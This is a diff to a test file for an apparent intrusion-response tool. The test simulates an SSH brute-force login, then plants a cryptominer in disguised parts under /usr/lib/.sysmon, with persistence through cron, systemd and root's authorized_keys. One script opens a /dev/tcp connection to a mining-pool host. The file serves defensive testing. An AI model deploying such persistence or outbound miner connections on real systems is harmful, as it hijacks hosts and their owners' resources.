@@ -1,5 +1,5 @@
 /** (a) Passwords are guessed over ssh until one fits; then a miner in parts is downloaded and planted in cron, systemd and root's keys. */
-import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -11,13 +11,15 @@ const word = 'harbour2024';
 const parts = ['journald-gc', 'auditd-flush', 'rsyslogd-net'];
 const place = '/usr/lib/.sysmon';
 const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFvV0ZfVt1xq5n0yq0h3p6m1x8Yw2Lr7c9QbTt4uEeAa ops@backup';
+/** What was there before, and stays. */
+const own = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMbX2wqv0o1j4sJm7n8b3c5d6e7f8g9h0i1j2k3l4m5n harbour@desk', job = '5 4 * * 0 /usr/local/bin/nightly-report';
 
 describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(a) brute force, log-on, download, split miner', () => {
   const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
   let scene: Scene;
 
   beforeAll(async () => {
-    scene = await startScene({ async ready(host) { await serveSsh(host, word); await ordinaryLoad(host); } });
+    scene = await startScene({ async ready(host) { await serveSsh(host, word); await ordinaryLoad(host); host.plant('/root/.ssh/authorized_keys', `${own}\n`, { mode: 0o600 }); await host.must('sh', '-c', 'printf "%s\\n" "$1" | crontab -', 'sh', job); } });
     // Its parts are shells of other names: the first starts the others, the last speaks to the pool.
     writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
     writeFileSync(join(kit, 'go.sh'), [
@@ -47,10 +49,13 @@ describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/
       entry: { kind: 'login', address: attacker, user: 'root' }, level: 'critical', grade: 2,
       steps: [
         'freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`,
-        'stop-unit sysmon.service', 'quarantine-file /etc/systemd/system/sysmon.service', 'quarantine-file /etc/cron.d/sysmon', 'kill-tree process',
-        ...parts.map((part) => `quarantine-file ${place}/${part}`),
+        'stop-unit unit sysmon.service', 'quarantine-file /etc/systemd/system/sysmon.service', 'quarantine-file /etc/cron.d/sysmon', 'remove-line /var/spool/cron/crontabs/root', 'remove-line /root/.ssh/authorized_keys',
+        'quarantine-file /tmp/go.sh', ...[...parts, 'job'].map((part) => `quarantine-file ${place}/${part}`), 'kill-tree process',
       ],
       checks: ['cron', 'systemd', 'ssh-keys'], running: /\.sysmon/,
+      // crontab writes the date into the remarks above the jobs.
+      stays: [/^\/var\/spool\/cron\/crontabs\/root$/],
+      after: () => { expect(readFileSync(join(host.root, 'var/spool/cron/crontabs/root'), 'utf8').split('\n').filter((line) => line !== '' && !line.startsWith('#'))).toEqual([job]); },
     });
   });
 });
